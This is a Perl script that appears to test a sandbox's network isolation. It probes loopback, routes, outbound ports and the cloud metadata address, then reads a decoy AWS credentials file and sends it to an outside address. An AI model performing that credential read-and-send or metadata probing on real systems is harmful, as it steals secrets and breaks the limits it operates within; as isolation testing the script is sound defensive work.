# Does what the witnesses must see, and what they must leave alone: one line each, "name value".
use strict;
use warnings;
use Socket qw(:DEFAULT inet_pton pack_sockaddr_in6 SOCK_STREAM SOCK_DGRAM);
$| = 1;

sub told { printf "%s %s\n", @_ }
sub outcome { my $done = shift; return $done ? "done" : "E" . ($! + 0) }
sub content {
    my $path = shift;
    open my $file, "<", $path or return "";
    local $/;
    my $text = <$file>;
    return defined $text ? $text : "";
}
sub reach {
    my ($address, $port, $text) = @_;
    my $six = $address =~ /:/;
    my $packed = inet_pton($six ? AF_INET6 : AF_INET, $address);
    my $place = $six ? pack_sockaddr_in6($port, $packed) : pack_sockaddr_in($port, $packed);
    socket my $socket, $six ? AF_INET6 : AF_INET, SOCK_STREAM, 0 or return outcome(0);
    my $reached = outcome(connect $socket, $place);
    syswrite $socket, $text if defined $text && $reached eq "done";
    close $socket;
    return $reached;
}

# What is the run's own.
socket my $server, AF_INET, SOCK_STREAM, 0;
bind $server, pack_sockaddr_in(8080, INADDR_LOOPBACK) and listen $server, 5;
told("loopback-server", reach("127.0.0.1", 8080));
told("loopback-refused", reach("127.0.0.1", 9));
told("loopback6-refused", reach("::1", 9));

# Where everything else goes.
my @devices = map { (split)[0] } grep { /^\S+\s+00000000\s/ } split /\n/, content("/proc/net/route");
told("ways-out", join ",", @devices);
my %six = map { my @words = split; ($words[-1] => 1) }
  grep { /^0{32} 00 / && !/\slo$/ } split /\n/, content("/proc/net/ipv6_route");
told("ways-out6", join ",", sort keys %six);
told("interfaces", join(",", content("/proc/net/dev") =~ /^\s*(\S+):/mg));
told("reach-$_", reach($_, 4444, "probe")) for qw(192.0.2.1 10.0.0.1 172.17.0.1 169.254.169.254 2001:db8:1::1);

# What may not be read unseen.
my $decoy = content("$ENV{HOME}/.aws/credentials");
told("decoy", length $decoy > 40 ? "read" : "missing");
told("decoy-untouchable", utime(1, 1, "$ENV{HOME}/.aws/credentials") ? "done" : "E" . ($! + 0));
told("decoy-sent", reach("198.51.100.1", 80, $decoy));
